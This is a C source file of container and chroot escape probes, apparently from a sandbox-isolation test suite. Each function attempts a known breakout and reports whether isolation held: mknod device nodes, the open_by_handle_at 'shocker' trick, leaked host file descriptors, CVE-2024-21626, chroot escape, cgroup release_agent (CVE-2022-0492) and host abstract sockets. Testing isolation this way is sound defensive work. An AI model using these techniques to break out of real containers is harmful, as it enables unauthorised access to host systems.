/* Ways out by files: device nodes, handles, descriptors that were left open, control groups. */
#include "probe.h"
#include <dirent.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>

static int node_in_the_image(char **arguments)
{
    (void)arguments;
    return opens("/node", O_RDWR) ? ESCAPED : failed("/node");
}

/* mknod NAME MAJOR MINOR: makes a node in each place where one might work, and opens it. */
static int make_node(char **arguments)
{
    dev_t device = makedev(atoi(arguments[0]), atoi(arguments[1]));
    static const char *const places[] = {"/probe-node", "/dev/probe-node", SPOT "/probe-node"};
    int status = HELD;
    mount("probe", SPOT, "tmpfs", 0, NULL);
    for (int i = 0; i < 3; i++) {
        if (mknod(places[i], S_IFCHR | 0600, device)) {
            printf("mknod %s: %s\n", places[i], strerror(errno));
            continue;
        }
        if (opens(places[i], O_RDWR))
            status = ESCAPED;
        else if (failed(places[i]) == NOTHING_THERE && status != ESCAPED)
            status = NOTHING_THERE;
        unlink(places[i]);
    }
    return status;
}

/* Any file of a file system by its number: "shocker". */
static int open_by_handle(char **arguments)
{
    (void)arguments;
    struct { struct file_handle head; unsigned char room[MAX_HANDLE_SZ]; } handle;
    int mount_id, root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    handle.head.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, "/proc/sys", &handle.head, &mount_id, 0)) {
        handle.head.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, "/mnt", &handle.head, &mount_id, 0)) {
            /* Where there are no handles to be had, one is made up: the call itself is asked. */
            handle.head.handle_bytes = 8;
            handle.head.handle_type = 1;
        }
    }
    int fd = open_by_handle_at(root, &handle.head, O_RDONLY);
    if (fd >= 0 || errno == ESTALE)
        return ESCAPED;
    return failed("open_by_handle_at");
}

/* A directory of the host's that a process has left open, or is in: fds FILE_OF_THE_HOST. */
static int left_open(char **arguments)
{
    char path[1024], up[64] = "";
    DIR *proc = opendir("/proc");
    struct dirent *process, *entry;
    for (int i = 0; i < 16; i++)
        strcat(up, "../");
    while (proc && (process = readdir(proc))) {
        if (process->d_name[0] < '0' || process->d_name[0] > '9')
            continue;
        /* In the weakened profile the host's processes are seen: those are another probe. */
        if (arguments[1] && atoi(process->d_name) != getpid())
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd", process->d_name);
        DIR *fds = opendir(path);
        while (fds && (entry = readdir(fds))) {
            snprintf(path, sizeof path, "/proc/%s/fd/%s/%s%s", process->d_name, entry->d_name, up,
                     arguments[0]);
            if (entry->d_name[0] != '.' && opens(path, O_RDONLY))
                return ESCAPED;
        }
        if (fds)
            closedir(fds);
        static const char *const links[] = {"cwd", "root"};
        for (int i = 0; i < 2; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s/%s%s", process->d_name, links[i], up,
                     arguments[0]);
            if (opens(path, O_RDONLY))
                return ESCAPED;
        }
    }
    char here[4096];
    if (syscall(SYS_getcwd, here, sizeof here) > 0 && here[0] != '/') {
        printf("the working directory is %s\n", here);
        return ESCAPED;
    }
    return HELD;
}

/* CVE-2024-21626 as an image does it: a working directory that is a descriptor. It is looked for a file
 * from there: in-left-open FILE_OF_THE_HOST. */
static int in_left_open(char **arguments)
{
    char path[1024], up[64] = "";
    for (int i = 0; i < 16; i++)
        strcat(up, "../");
    snprintf(path, sizeof path, "%s%s", up, arguments[0]);
    if (opens(path, O_RDONLY))
        return ESCAPED;
    for (int fd = 3; fd < 64; fd++) {
        char place[64];
        snprintf(place, sizeof place, "/proc/self/fd/%d", fd);
        if (!chdir(place) && opens(path, O_RDONLY))
            return ESCAPED;
    }
    return HELD;
}

/* The oldest way out of chroot: leave-root FILE_OF_THE_HOST. */
static int leave_root(char **arguments)
{
    int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (chroot(SPOT) || fchdir(root))
        return failed("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir(".."))
            break;
    return opens(arguments[0], O_RDONLY) ? ESCAPED : HELD;
}

/* CVE-2022-0492 and its elder: a program that the host runs when a group becomes empty. */
static int release_agent(char **arguments)
{
    (void)arguments;
    static const char *const options[] = {"none,name=wpar-escape-probe", "rdma", "memory", "pids",
                                          "cpuset", "devices", "freezer"};
    for (unsigned i = 0; i < sizeof options / sizeof *options; i++) {
        if (mount("probe", SPOT, "cgroup", 0, options[i])) {
            printf("mount %s: %s\n", options[i], strerror(errno));
            continue;
        }
        int fd = open(SPOT "/release_agent", O_WRONLY | O_CLOEXEC);
        /* An empty name: nobody is to be run. Only for the hierarchy that is the probe's own. */
        int got = fd >= 0 && (i > 0 || write(fd, "\n", 1) == 1);
        if (fd >= 0)
            close(fd);
        umount2(SPOT, MNT_DETACH);
        if (got) {
            printf("release_agent of %s\n", options[i]);
            return ESCAPED;
        }
    }
    return HELD;
}

/* The limits that it is held to. */
static int own_limits(char **arguments)
{
    (void)arguments;
    if (!mount("probe", SPOT, "cgroup", 0, "memory"))
        return opens(SPOT "/memory.limit_in_bytes", O_WRONLY) ? ESCAPED : HELD;
    printf("mount cgroup: %s\n", strerror(errno));
    if (mount("probe", SPOT, "cgroup2", 0, NULL))
        return failed("mount cgroup2");
    if (opens(SPOT "/memory.max", O_WRONLY) || opens(SPOT "/pids.max", O_WRONLY))
        return ESCAPED;
    return access(SPOT "/pids.max", F_OK) ? NOTHING_THERE : HELD;
}

/* The groups of the whole host: only their root has no cgroup.events. */
static int groups_of_the_host(char **arguments)
{
    (void)arguments;
    if (mount("probe", SPOT, "cgroup2", 0, NULL))
        return failed("mount cgroup2");
    return access(SPOT "/cgroup.events", F_OK) ? ESCAPED : HELD;
}

/* socket NAME: a socket of the host in the abstract name space. */
static int abstract_socket(char **arguments)
{
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    strncpy(name.sun_path + 1, arguments[0], sizeof name.sun_path - 2);
    socklen_t length = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(arguments[0]);
    return connect(fd, (struct sockaddr *)&name, length) ? (failed("connect"), HELD) : ESCAPED;
}

const struct probe file_probes[] = {
    {"node-in-the-image", node_in_the_image},
    {"make-node", make_node},
    {"open-by-handle", open_by_handle},
    {"left-open", left_open},
    {"in-left-open", in_left_open},
    {"leave-root", leave_root},
    {"release-agent", release_agent},
    {"own-limits", own_limits},
    {"groups-of-the-host", groups_of_the_host},
    {"abstract-socket", abstract_socket},
    {NULL, NULL},
};
